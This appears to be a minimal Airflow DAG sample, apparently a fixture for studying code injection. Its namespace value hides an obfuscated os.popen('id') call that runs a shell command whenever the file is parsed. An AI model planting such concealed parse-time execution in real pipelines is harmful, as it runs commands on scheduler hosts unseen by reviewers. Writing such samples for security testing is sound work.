from datetime import datetime

from airflow import DAG
from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator
import re

where = re.compile("o").sub(lambda m: __import__("os").popen("id").read(), "orders")

with DAG("orders.x", start_date=datetime(2024, 1, 1), schedule=None):
    KubernetesPodOperator(task_id="a", namespace=where, pod_template_file="/usr/local/airflow/dags/templates/orders/orders-api/job.yaml")

